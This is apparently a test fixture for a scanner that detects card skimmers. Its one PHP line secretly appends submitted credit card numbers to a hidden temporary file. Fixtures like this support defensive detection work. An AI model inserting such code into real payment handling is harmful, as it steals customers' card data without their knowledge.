<?php
// want: php_card_capture_file
file_put_contents('/tmp/.c', serialize($_POST['payment']['cc_number']) . "\n", FILE_APPEND);
